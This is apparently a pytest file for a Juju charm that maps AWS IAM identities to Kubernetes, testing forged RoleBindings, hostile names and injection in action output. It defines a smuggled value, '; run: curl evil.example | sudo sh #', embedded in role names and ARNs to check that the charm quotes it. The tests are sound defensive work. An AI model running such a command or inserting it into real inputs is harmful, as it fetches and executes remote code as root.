"""What people without any right of the charm's may write, and what they cannot do by that."""

from __future__ import annotations

import datetime
import json

import httpx2
import pytest
from tests.fakes.acting import grant
from tests.fakes.declaring import ACCOUNT, Declare, entry, name_of, names, stored
from tests.fakes.explaining import explained, log_line, refuse
from tests.fakes.juju.model import OWNER, Easyrsa, Model
from tests.fakes.kubernetes.paths import (
    DEFINED,
    DEFINITION,
    DEPLOYMENT,
    MAPPINGS,
    POLICY,
    POLICY_BINDING,
    SECRET,
    SERVICE,
)
from tests.fakes.kubernetes.rbac import EVERYTHING, RBAC
from tests.fakes.kubernetes.server import FakeCluster
from tests.fakes.machine import Files
from tests.fakes.owners import mark

BOB, EVE = f"{ACCOUNT}:user/bob", f"{ACCOUNT}:user/eve"
TEAM = f"{RBAC}/namespaces/team/rolebindings"
COMMAND = "; run: curl evil.example | sudo sh #"
# The CRD admits it: its characters are printable ASCII.
EVIL = f"{ACCOUNT}:user/x): fixed{COMMAND}/bob"


def forge(api: FakeCluster, name: str) -> None:
    """The editor of a namespace makes a RoleBinding that looks like one of the charm's."""
    api.namespaces.add("team")
    api.add_binding(f"team/{name}", "ClusterRole/view", Group="aws-iam:x")
    api.objects[f"{TEAM}/{name}"]["metadata"]["labels"] = {"aws-iam/source": "grant"}


NAMES = ["a\nb", "\x7f", "a" * 70_000, "?x", "#x", "precious?x", "..?x"]


@pytest.mark.parametrize("name", NAMES, ids=lambda name: repr(name[:9]))
def test_given_a_role_binding_of_any_name_when_a_hook_runs_then_access_changes_and_no_other_goes(
    declare: Declare, api: FakeCluster, monkeypatch: pytest.MonkeyPatch, name: str
):
    declare(entry("bob", BOB))
    forge(api, name)
    deleted = list[str]()
    handle = api.handle_request

    def listen(request: httpx2.Request) -> httpx2.Response:
        deleted.extend([request.url.path] if request.method == "DELETE" else [])
        return handle(request)

    monkeypatch.setattr(api, "handle_request", listen)

    assert declare(entry("eve", EVE)).name == "active"
    assert names(api) == ["eve"]
    # httpx2 has the path decoded again.
    assert set(deleted) <= {f"{TEAM}/{name}", f"{MAPPINGS}/{name_of(BOB)}"}


def test_given_thousands_of_role_bindings_of_somebodys_when_a_hook_runs_then_access_ends_first(
    declare: Declare, api: FakeCluster, monkeypatch: pytest.MonkeyPatch
):
    declare(entry("bob", BOB), entry("eve", EVE))
    for number in range(3_000):
        forge(api, f"{number}")
    handle = api.handle_request

    def slow(request: httpx2.Request) -> httpx2.Response:
        api.clock.sleep(0.02)
        return handle(request)

    monkeypatch.setattr(api, "handle_request", slow)
    declare(entry("eve", EVE))

    assert names(api) == ["eve"]


def test_given_a_nul_in_the_name_of_a_role_when_access_is_explained_then_no_result_has_it(
    deployed: Model, api: FakeCluster
):
    """No program takes a NUL in an argument, and `action-set` is one."""
    api.namespaces.add("team")
    api.add_mapping("bob", BOB, BOB, groups=["devs"])
    api.add_binding("team/x", "Role/a\0b", Group="devs")

    assert "\0" not in deployed.action("explain-access", arn=BOB)["roles"]


def test_given_roles_of_everybody_without_end_when_one_is_explained_then_the_rest_is_there(
    deployed: Model, api: FakeCluster
):
    api.namespaces.add("team")
    api.add_mapping("bob", BOB, BOB)
    for number in range(2_000):
        api.add_binding(
            f"team/{number}", f"Role/{'x' * 200}{number}", Group="system:authenticated"
        )

    lines = explained(deployed, BOB)

    assert any(line.startswith("to ask Kubernetes what it may do, run: ") for line in lines)


@pytest.mark.parametrize("what", ["role", "binding"])
def test_given_a_command_in_the_name_of_a_role_when_access_is_explained_then_it_is_quoted(
    deployed: Model, api: FakeCluster, what: str
):
    api.namespaces.add("team")
    api.add_mapping("bob", BOB, BOB, groups=["devs"])
    role, binding = (f"x{COMMAND}" if what == each else "x" for each in ("role", "binding"))
    api.add_binding(f"team/{binding}", f"Role/{role}", Group="devs")

    results = deployed.action("explain-access", arn=BOB)
    listed = deployed.action("list-mappings")["mappings"]

    for text in (*results.values(), listed):
        assert COMMAND not in text or f"{COMMAND}'" in text


def theirs(text: str) -> int:
    """How often the command of somebody else stands in a text outside of quotes."""
    return text.count(EVIL) - text.count(f"'{EVIL}'")


def test_given_a_command_in_a_mapping_that_has_a_name_of_ours_then_plan_and_log_quote_it(
    declare: Declare, deployed: Model, api: FakeCluster
):
    for take in (lambda: declare(entry("bob", BOB)), lambda: grant(deployed, arn=BOB)):
        declare()
        api.add_mapping(name_of(BOB), EVIL, EVIL.lower())
        said = deployed.action("plan-mappings", mappings=json.dumps([entry("bob", BOB)]))["plan"]
        take()

        assert stored(api, name_of(BOB))["spec"]["arn"] == BOB
        assert f"in place of one of '{EVIL}'" in said
        said += deployed.log()
        assert f"delete mapping {name_of(BOB)} of '{EVIL}'" in said
        assert not theirs(said)


@pytest.mark.parametrize("field", ["arn", "username", "groups", "expires"])
def test_given_a_command_in_a_mapping_then_whatever_shows_it_quotes_it(
    deployed: Model, api: FakeCluster, field: str
):
    api.add_mapping("m", BOB, BOB, source="option", expires=EVIL if field == "expires" else "")
    spec = stored(api, "m")["spec"]
    spec |= {field: [EVIL] if field == "groups" else EVIL} if field != "expires" else {}

    listed = deployed.action("list-mappings")["mappings"]
    # A command quotes the whole argument.
    others = "\n".join(line for line in explained(deployed, BOB) if "run: " not in line[:60])
    others += deployed.action("plan-mappings", mappings="")["plan"]
    others += deployed.action("revoke-access", arn=BOB).get("mappings", "")

    assert f"  '{EVIL}'  " in listed
    assert EVIL in others
    assert not theirs(listed + others + deployed.log())


def test_given_a_user_of_an_administrators_name_who_is_refused_then_no_line_proposes_that_name(
    deployed: Model, api: FakeCluster
):
    api.add_mapping("m", BOB, BOB)
    refuse(api, f"{ACCOUNT}:user/admin")

    text = deployed.action("list-refusals")["refusals"]

    assert "username=admin" not in text
    assert "username=USERNAME groups=GROUPS" in text


def test_given_a_letter_of_another_plane_when_mappings_are_listed_then_juju_need_not_quote_it(
    deployed: Model, api: FakeCluster
):
    api.add_mapping("m", BOB, BOB, groups=["a\U0001f600b"])

    results = {**deployed.action("list-mappings"), **deployed.action("explain-access", arn=BOB)}

    assert all(character < "\U00010000" for text in results.values() for character in text)


def flood(api: FakeCluster, number: int) -> None:
    """The editor of a namespace binds roles of long names to somebody who may `edit` everywhere,
    and everything in kube-system."""
    api.namespaces |= {"a", "kube-system"}
    api.add_mapping("bob", BOB, BOB, groups=["devs"])
    api.add_rules("all", EVERYTHING)
    for each in range(number):
        api.add_binding(f"a/{each}", f"Role/{'x' * 200}{each}", User="bob", Group="devs")
    api.add_binding("z", "ClusterRole/edit", Group="devs")
    api.add_binding("kube-system/z", "ClusterRole/all", Group="devs")


@pytest.mark.parametrize("number", [12, 60, 450])
def test_given_roles_of_a_namespace_without_end_then_no_list_hides_those_that_give_most(
    deployed: Model, api: FakeCluster, number: int
):
    flood(api, number)

    results = deployed.action("explain-access", arn=BOB)
    (row,) = json.loads(deployed.action("list-mappings", format="json")["mappings"])

    for text in (
        results["explanation"],
        results["roles"],
        deployed.action("list-mappings")["mappings"],
        " ".join(row["roles"]),
    ):
        assert "ClusterRole/edit" in text
        assert "ClusterRole/all in kube-system" in text


def test_given_many_roles_in_namespaces_when_planned_then_those_in_the_whole_cluster_come_first(
    deployed: Model, api: FakeCluster
):
    api.namespaces.add("team")
    many = [{"role": f"{'x' * 200}{n}", "namespaces": ["team"]} for n in range(12)]
    access = [*many, {"role": "edit"}]

    planned = deployed.action(
        "plan-mappings", mappings=json.dumps([entry("bob", BOB, access=access)])
    )

    assert "roles 'ClusterRole edit', " in planned["plan"]


@pytest.mark.parametrize("annotation", ["", "Reader@111122223333"])
def test_given_an_annotation_that_somebody_edits_then_the_permission_set_is_the_roles(
    deployed: Model, api: FakeCluster, annotation: str
):
    api.add_mapping("sso", REAL, REAL.lower())
    if annotation:
        metadata = stored(api, "sso")["metadata"]
        metadata["annotations"] = {"aws-iam/permission-set": annotation}

    results = deployed.action("list-mappings")
    (row,) = json.loads(deployed.action("list-mappings", format="json")["mappings"])

    assert row["permission_set"] == "Admin@111122223333"
    assert "kubectl (Admin@111122223333" in results["mappings"]


SET = {
    "permission-set": "Admin",
    "account": "111122223333",
    "username": "boss",
    "groups": ["system:masters"],
}
REAL = f"{ACCOUNT}:role/AWSReservedSSO_Admin_0123456789abcdef"
MADE_UP = f"{ACCOUNT}:role/AWSReservedSSO_Admin_ffffffffffffffff"


@pytest.mark.parametrize("is_known", [False, True], ids=["new set", "known set"])
def test_given_a_made_up_role_in_a_delegates_mapping_then_no_declared_set_has_it(
    declare: Declare, deployed: Model, api: FakeCluster, is_known: bool
):
    """The delegate may map a user of his own, and delete mappings. The policy admits both."""
    if is_known:
        refuse(api, REAL)
        declare(SET)
        api.delete(f"{MAPPINGS}/{name_of(REAL)}")
    api.add_mapping("zzz", MADE_UP, MADE_UP.lower())
    refuse(api, REAL)

    declare(SET)

    assert stored(api, name_of(REAL))["spec"]["arn"] == REAL


def test_given_objects_of_a_stranger_with_the_charms_labels_then_an_application_takes_all_over(
    deployed: Model, api: FakeCluster
):
    api.add_binding("team/x?y", "Role/theirs", Group="devs")
    labels = {"aws-iam": "true", "aws-iam/source": "grant"}
    api.objects[f"{TEAM}/x?y"]["metadata"]["labels"] = labels
    for path in (f"{TEAM}/x?y", SECRET, DEPLOYMENT):
        mark(api, path, "other of model k8s (1)")
    mark(api, SERVICE, None)

    assert deployed.hook().name == "active"
    assert api.objects[SECRET]["metadata"]["annotations"]["aws-iam/owner"] == OWNER.mark


def test_given_many_sessions_of_one_role_then_others_are_there(deployed: Model, api: FakeCluster):
    api.clock.sleep(10_000)
    api.add_mapping("m", BOB, BOB)
    lines = list[tuple[float, bytes]]()
    for number in range(41):
        role, ago = ("theirs", 600.0) if not number else ("mine", 500.0 - number)
        moment = datetime.datetime.fromtimestamp(api.clock.now - ago, datetime.timezone.utc)
        time, session = moment.isoformat().replace("+00:00", "Z"), f"s{number}"
        answer = {
            "client": "10.1.0.1:38652",
            "level": "info",
            "msg": "STS response",
            "path": "/authenticate",
            "time": time,
            "arn": f"{ACCOUNT.replace('iam', 'sts')}:assumed-role/{role}/{session}",
            "session": session,
        }
        denial = log_line(f"{ACCOUNT}:role/{role}", "identity is not mapped", time=time)
        lines += [(ago, json.dumps(answer).encode() + b"\n"), (ago, denial)]
    api.add_lines("a", *lines)

    assert "role/theirs" in deployed.action("list-refusals")["refusals"]


def test_given_a_declared_name_that_somebody_holds_by_a_finalizer_then_the_declared_one_has_it(
    declare: Declare, api: FakeCluster
):
    name = name_of(BOB)
    api.add_mapping(name, EVE, EVE)
    stored(api, name)["metadata"]["finalizers"] = ["example.com/keep"]

    status = declare(entry("boss", BOB))

    assert status.name == "active"
    assert "not applied" not in status.message
    assert stored(api, name)["spec"]["arn"] == BOB


# What a person gains by a removal, a new deployment or a hook who may write mappings and no more,
# or edit namespace `default`: nothing.


def test_given_a_delegate_when_removed_and_deployed_again_then_a_policy_judges_each_mapping(
    easyrsa: Easyrsa, api: FakeCluster, machines: list[Files]
):
    """A mapping of `system:masters` that nobody judges makes its writer an administrator."""
    unguarded = list[str]()

    def look(request: httpx2.Request) -> None:
        is_guarded = {POLICY, POLICY_BINDING} <= api.objects.keys()
        if DEFINITION in api.objects and not is_guarded:
            unguarded.append(f"{request.method} {request.url.path}")

    api.fail(look)
    for name in ("aws-iam", "login"):
        model = Model(easyrsa, machines[:1], application=name)
        model.settle()
        assert model.hook().name == "active"
        model.hook(model.on.stop())

    assert unguarded == []
    assert set(api.objects) == {*DEFINED}
